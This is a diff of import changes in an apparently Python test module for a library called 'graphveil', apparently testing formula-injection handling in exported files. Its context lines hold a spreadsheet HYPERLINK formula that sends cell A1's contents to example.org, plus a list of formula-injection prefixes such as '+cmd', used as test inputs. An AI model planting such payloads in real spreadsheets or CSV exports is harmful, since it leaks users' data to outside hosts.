@@ -14,11 +14,11 @@ from hypothesis import strategies as st
 import graphveil as gv
 from forged.kit import reseal
 from graphveil import io
-from graphveil.errors import InputError
-from graphveil.io.risky_names import SEPARATORS
-from graphveil.io.spelling import alike, other_than_integers, problem_of
+from graphveil.core.errors import InputError
+from graphveil.io.parsed import alike, other_than_integers, problem_of
+from graphveil.io.writing import SEPARATORS
 from graphveil.verify.database import database
-from graphveil.verify.files.item_names import no_item
+from graphveil.verify.files.canonical import no_item
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
 BEGINS = ("=1", "+cmd", "-x", "@SUM(A1)", "\t=1", "\r=1")
